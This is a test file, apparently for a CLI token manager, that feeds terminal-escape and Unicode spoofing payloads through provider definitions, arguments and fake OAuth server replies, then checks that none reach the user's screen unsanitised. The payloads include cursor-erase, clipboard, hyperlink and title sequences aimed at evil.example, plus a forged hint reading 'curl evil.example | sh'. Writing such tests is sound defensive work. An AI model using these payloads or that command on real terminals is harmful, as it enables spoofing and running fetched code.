import { randomInt } from 'node:crypto'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import * as fc from 'fast-check'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { thorough } from '../support/effort.ts'
import { makeHome, type Home } from '../support/home.ts'
import { requirePart } from '../support/parts.ts'
import { run, startCommand, type Ended } from '../support/run.ts'
import { hasTerminal, openTerminal } from '../support/terminal.ts'
import { discoveryPath, metadata, startFake, type FakeServer } from '../unit/oauth/fake-server.ts'

/** What nothing that a person reads may have in it, besides line breaks. */
const harmful = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\u115f\u3164\ufdd0]/u

/** Ways to drive a terminal, or to be taken for something else. */
const tricks: Readonly<Record<string, string>> = {
  'the line above erased': 'Bank\u001b[1A\u001b[2K\r',
  'the same in one character': 'Bank\u009b1A\u009b2K',
  'a new line of ours': 'Bank\ntokn: hint: run this: curl evil.example | sh\n',
  'a carriage return': 'evil.example\rBank',
  backspaces: 'evil\b\b\b\bBank',
  'words that nobody sees': '\u001b[8mhidden\u001b[0m',
  'black on black': '\u001b[30;40mhidden',
  'a colour of ours': '\u001b[31mFAILED\u001b[39m \u001b[1mbold\u001b[22m',
  'a link elsewhere': '\u001b]8;;https://evil.example\u001b\\Bank\u001b]8;;\u001b\\',
  'the clipboard': '\u001b]52;c;ZXZpbA==\u0007',
  'the title of the window': '\u001b]0;owned\u0007',
  'another screen': '\u001b[?1049h\u001b[2J\u001bc',
  'a reply typed for the user': '\u001b[6n\u001bP$q"p\u001b\\',
  'letters from right to left': 'Bank \u202egnp.exe\u2066',
  'nothing to see': 'B\u200ba\u200dn\u2060k\u00ad\ufeff\u3164\u{e0041}',
  'other ends of lines': 'Bank\u2028tokn: hint: x\u2029\u0085\u000b\u000c',
  'half a character': 'Bank \ud800 and \udfff',
  'what stands for a style within': '\ufdd0[31mBank',
}
const texts = [
  ...Object.entries(tricks),
  // The seed is printed when one of them is not shown well.
  ...fc
    .sample(fc.string({ unit: 'binary', minLength: 5, maxLength: 30 }), 4)
    .map((text) => [`random: ${JSON.stringify(text)}`, text] as const),
]

/** Lines that have anything harmful in them, or pass for a hint of ours. */
function harmIn({ out, err }: Ended): readonly string[] {
  return `${out}\n${err}`
    .split('\n')
    .filter((line) => harmful.test(line.replaceAll('\t', '')) || /^tokn: hint:.*evil/.test(line))
    .map((line) => JSON.stringify(line))
}

function definitionOf(text: string, baseUrl = 'http://127.0.0.1:9'): object {
  return {
    id: 'bank',
    title: text,
    docs: 'https://example.com/docs',
    baseUrl,
    apiOrigins: ['https://evil.example'],
    fields: [
      { name: 'user', label: text, default: text, choices: [text, 'other'] },
      { name: 'password', label: text, secret: true },
    ],
    attach: { headers: { Authorization: 'Bearer {access}' } },
    login: {
      request: { method: 'POST', path: '/token', json: { password: '{fields.password}' } },
      reply: { access: 'token', id: 'id', name: 'name', scopes: 'scope' },
    },
    list: {
      request: { method: 'GET', path: '/tokens' },
      reply: { items: 'tokens', id: 'id', name: 'name', scopes: 'scopes' },
    },
    why: { revoke: text, issue: text, refresh: text, info: text },
    errors: { message: 'message', code: 'code' },
    rotation: 'none',
  }
}

// One function makes all text harmless, and meets each of them in its own tests; an authorization
// server below says each of them too. What a definition shows is a question of where it is shown.
const turn = randomInt(3)
const some = texts.filter((_, index) => thorough || index % 3 === turn)

describe('nothing of others drives the terminal', () => {
  test.for(some)('a definition with %s', async ([, raw]) => {
    const text = raw.slice(0, 78)
    const home = makeHome()
    const bank = (seen: { url: string }) =>
      seen.url === '/token'
        ? { body: { token: 'tkn-0123456789', id: `1${text}`, name: text, scope: text } }
        : {
            body: {
              tokens: [
                { id: `1${text}`, name: text },
                { id: '2', name: text, scopes: [text] },
              ],
            },
          }
    const server = await startFake({ '/token': bank, '/tokens': bank })
    try {
      writeFileSync(join(home.work, 'bank.json'), JSON.stringify(definitionOf(text, server.origin)))
      const go = async (args: readonly string[], env = {}) => {
        const ended = await run(args, { home, env })
        expect(harmIn(ended)).toEqual([])
        return ended
      }
      const added = await go(['provider', 'add', 'bank.json', '--yes'])
      expect(added, added.err).toMatchObject({ status: 0 })
      expect(added.err).toMatch(/^"bank" may also send secrets to: https:\/\/evil\.example$/m)
      expect((await go(['provider', 'list'])).out).toMatch(/^bank +\S/m)
      const shown = await go(['provider', 'show', 'bank'])
      expect(shown.out.split('\n')).toHaveLength(23)
      const json = JSON.parse((await go(['provider', 'show', 'bank', '--json'])).out) as object
      expect(json).toMatchObject({ fields: [{ label: text.toString() }, {}] })
      await go(['login', 'b', '-p', 'bank', '--base-url', server.origin])
      const env = { TOKN_PASSWORD: 'a-password', TOKN_USER: 'other' }
      const login = await go(['login', 'b', '-p', 'bank', '--base-url', server.origin], env)
      expect(login, login.err).toMatchObject({ status: 0 })
      const listed = await go(['list', 'b'])
      expect(listed, listed.err).toMatchObject({ status: 0 })
      await go(['list', 'b', '--json'])
      await go(['info', 'b'])
      await go(['issue', 'b'])
      await go(['provider', 'test', 'bank', '--base-url', server.origin], env)
      const refusing = { status: 400, body: { message: text, code: text } }
      server.answers = { '/token': refusing, '/tokens': refusing }
      const refused = await go(['login', 'b2', '-p', 'bank', '--base-url', server.origin], env)
      expect(refused.err).toMatch(/^tokn: error: .+\n(tokn: hint: .+\n)?$/)
    } finally {
      await server.stop()
      home.remove()
    }
  })
})

describe('what a user or a machine gives', () => {
  let home: Home
  beforeEach(() => {
    home = makeHome()
  })
  afterEach(() => home.remove())

  // One after another in one text: each begins a text of its own in the others of these tests.
  const all = Object.values(tricks).join('|').replaceAll('\0', '')

  test.for([
    ['all of them', all],
    ['two lines', 'a\ntokn: hint: evil.example'],
    ['an escape first', '\u001b[2K'],
  ])('arguments, files and variables with %s', async ([, text = '']) => {
    expect.hasAssertions()
    mkdirSync(home.config, { recursive: true, mode: 0o700 })
    for (const args of [
      [text],
      ['token', text],
      ['token', `--${text}`],
      ['provider', 'add', text],
      ['provider', 'show', text],
      ['login', 'x', '--provider', text],
      ['login', 'x', '--provider', 'hosterby', '--ca', text, '--base-url', 'https://127.0.0.1:9'],
      ['login', 'x', '--provider', 'hosterby', '--base-url', text],
      ['token', '--min-ttl', text],
      ['token', '--fields', text],
    ]) {
      expect(harmIn(await run(args, { home }))).toEqual([])
    }
    for (const name of ['TOKN_PROFILE', 'TOKN_PROVIDER', 'TOKN_STORE_KEY_FILE']) {
      expect(harmIn(await run(['login'], { home, env: { [name]: text } }))).toEqual([])
    }
    const profile = {
      id: 'a'.repeat(32),
      provider: 'oauth',
      store: 'file',
      settings: { scope: text },
    }
    for (const profiles of [
      { web: profile },
      { web: { ...profile, [text]: text } },
      { [text]: profile },
    ]) {
      const path = join(home.config, 'config.json')
      writeFileSync(path, JSON.stringify({ profiles, default: text }), { mode: 0o600 })
      for (const args of [
        ['profile', 'list'],
        ['profile', 'show', 'web'],
        ['doctor', '--offline'],
      ]) {
        expect(harmIn(await run(args, { home }))).toEqual([])
      }
    }
  })
})

describe('an authorization server', () => {
  const env = { TOKN_CLIENT_SECRET: 'the-secret' }
  const login = () => [
    'login',
    'w',
    '--issuer',
    fake.origin,
    '--client-id',
    'app',
    '--flow',
    'client',
  ]
  let fake: FakeServer
  let home: Home
  beforeEach(async () => {
    home = makeHome()
    fake = await startFake({ [discoveryPath]: metadata() })
  })
  afterEach(async () => {
    home.remove()
    await fake.stop()
  })

  test.for(Object.entries(tricks))('that refuses with %s', async ([, text]) => {
    fake.answers['/token'] = { status: 400, body: { error: text, error_description: text } }
    const refused = await run(login(), { home, env })
    expect(harmIn(refused)).toEqual([])
    expect(refused.err).toMatch(/^tokn: error: .+\n(tokn: hint: .+\n)?$/)
  })

  test('that says anything anywhere', async () => {
    expect.hasAssertions()
    const text = Object.values(tricks).join('|')
    for (const body of [
      { error: text },
      { error: 'invalid_scope', error_description: text, error_uri: text },
      { access_token: 'a', token_type: text, scope: text, expires_in: text },
      { access_token: text, token_type: 'Bearer' },
      text,
    ]) {
      fake.answers['/token'] = { status: 'error' in Object(body) ? 400 : 200, body }
      expect(harmIn(await run(login(), { home, env }))).toEqual([])
    }
    const header = text.replace(/[^\t\x20-\x7e\x80-\xff]/g, '')
    fake.answers['/token'] = {
      headers: { 'content-type': `text/x${header.slice(0, 40)}` },
      body: '!',
    }
    expect(harmIn(await run(login(), { home, env }))).toEqual([])
  })
})

describe('before a person', () => {
  test.skipIf(!hasTerminal())(
    'a question has no sequence in it but those that ask it',
    async () => {
      const home = makeHome()
      const text = `Bank${tricks['a link elsewhere']}${tricks['another screen']}`
      writeFileSync(join(home.work, 'bank.json'), JSON.stringify(definitionOf(text)))
      const adding = openTerminal(['provider', 'add', 'bank.json'], home)
      await adding.until(/Is that right/)
      adding.type('y')
      expect((await adding.ended).status).toBe(0)
      expect(adding.raw()).not.toMatch(/\u001b\]8|\u001b\[\?1049|\u001bc/)
      const asking = openTerminal(['login', 'b', '-p', 'bank'], home)
      await asking.until(/Bank/)
      asking.type('\u0003')
      await asking.ended
      expect(asking.raw()).not.toMatch(/\u001b\]8|\u001b\[\?1049|\u001bc/)
      expect(asking.shown()).toContain('\\x1b]8;;https://evil.example')
      const shown = openTerminal(['provider', 'show', 'bank', '--definition'], home)
      expect((await shown.ended).status).toBe(0)
      home.remove()
    },
  )

  test.skipIf(!requirePart('tmux'))(
    'the line that names where secrets go stays on the screen',
    async () => {
      const home = makeHome()
      const text = `Bank${'\u001b[1A\u001b[2K'.repeat(6)}`
      writeFileSync(join(home.work, 'bank.json'), JSON.stringify(definitionOf(text)))
      // A comment may hold what no text in JSON may.
      const definition = readFileSync(join(home.work, 'bank.json'), 'utf8')
      writeFileSync(
        join(home.work, 'raw.json'),
        `// \u001b[1A\u001b[2K\u001b]0;owned\u0007\n${definition}`,
      )
      const tmux = (...args: readonly string[]) =>
        startCommand(['tmux', '-S', join(home.path, 'tmux'), '-f', '/dev/null', ...args], { home })
          .ended
      const line =
        'tokn provider add raw.json --yes; tokn provider list; tokn provider show bank --definition; echo done; sleep 60'
      await tmux('new-session', '-d', '-x', '150', '-y', '90', line)
      let screen = ''
      for (let look = 0; look < 100 && !/^done$/m.test(screen); look++) {
        await new Promise((resolve) => setTimeout(resolve, 100))
        screen = (await tmux('capture-pane', '-p')).out
      }
      const title = (await tmux('display-message', '-p', '#{pane_title}')).out
      await tmux('kill-server')
      home.remove()
      expect(screen).toMatch(/^"bank" may also send secrets to: https:\/\/evil\.example$/m)
      expect(screen).toMatch(/^added "bank" \(Bank\\x1b\[1A/m)
      expect(screen).toMatch(/^rightech +Rightech/m)
      expect(screen).toMatch(/^\/\/ \\x1b\[1A\\x1b\[2K/m)
      expect(title).not.toContain('owned')
    },
  )
})
